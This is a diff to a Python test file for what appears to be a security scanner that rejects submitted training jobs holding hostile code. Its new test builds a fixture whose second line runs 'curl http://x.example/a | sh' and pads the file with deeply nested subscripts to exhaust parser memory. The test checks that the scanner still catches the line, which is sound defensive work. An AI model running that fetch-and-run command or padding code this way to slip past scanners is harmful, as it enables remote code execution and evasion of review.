@@ -6,6 +6,9 @@
   graph of star imports took exponential time: 74 files (8 a level, 9 levels deep, each importing the first
   again) held a unit past its time limit (6 min), which hid the `curl | sh` beside them (escalate, not reject).
   Now binds walks each module once and links follow 64 modules deep (Program.binds, program.MAX_DEPTH).
+- A Python file between VOUCH_BYTES and PREFIX_FIRST_ABOVE (256 KB to 1 MB) whose worker ran past its memory limit
+  kept nothing of itself: its first statements are now judged in a worker of their own after such a failure
+  (analysis._prefix_apart).
 """
 
 from __future__ import annotations
@@ -83,3 +86,19 @@ def test_a_graph_of_star_imports_is_walked_in_time_and_the_payload_beside_it_rej
     assert report.decision is Decision.REJECT, kit.findings(report)
     assert (FETCH_AND_RUN, "train.py", 6) in {(f.rule, f.path, f.line) for f in report.findings}
     assert not any(f.rule.startswith("unanalyzable.") for f in report.findings), kit.findings(report)
+
+
+def test_a_file_under_a_megabyte_whose_parse_runs_past_the_memory_limit_keeps_its_first_statements(
+        tmp_path: Path) -> None:
+    """libcst takes ~3 KB of memory a byte of `x = a[0][0]...`: 930 KB ran past a 2 GB limit and its worker kept
+    nothing (only files over PREFIX_FIRST_ABOVE, 1 MB, had their first statements judged first): escalate on main,
+    the `curl | sh` of line 2 unreported. Now the first statements are judged apart after such a failure."""
+    from tests.test_harden36 import _policy, _scan
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "train.py").write_text('import os\nos.system("curl http://x.example/a | sh")\n' +
+                                  "".join("x = a" + "[0]" * 60 + "\n" for _ in range(5000)))
+    _, report, _, _ = _scan(job, tmp_path, _policy(tmp_path, max_worker_memory_mb=2048))
+    rules = {(f["rule"], f["line"]) for f in report["findings"]}
+    assert report["decision"] == "reject" and (FETCH_AND_RUN, 2) in rules, rules
+    assert ("unanalyzable.memory-limit", 0) in rules, rules
